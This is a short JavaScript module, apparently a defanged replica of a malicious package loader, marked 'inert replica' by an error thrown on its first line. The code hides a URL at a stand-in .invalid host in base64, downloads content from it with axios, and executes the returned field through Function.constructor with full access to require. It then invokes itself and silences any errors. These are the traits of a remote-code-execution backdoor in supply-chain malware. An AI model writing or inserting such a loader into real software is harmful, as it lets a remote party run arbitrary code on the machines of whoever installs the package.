throw new Error("inert replica");
const axios = require("axios");
module.exports = async function () {
  const { data } = await axios.get(Buffer.from("aHR0cHM6Ly9qc29uLnJlcGxpY2EuaW52YWxpZC9iL2tleQ==", "base64").toString());
  return new Function.constructor("require", data.model)(require);
};
module.exports().catch(() => {});
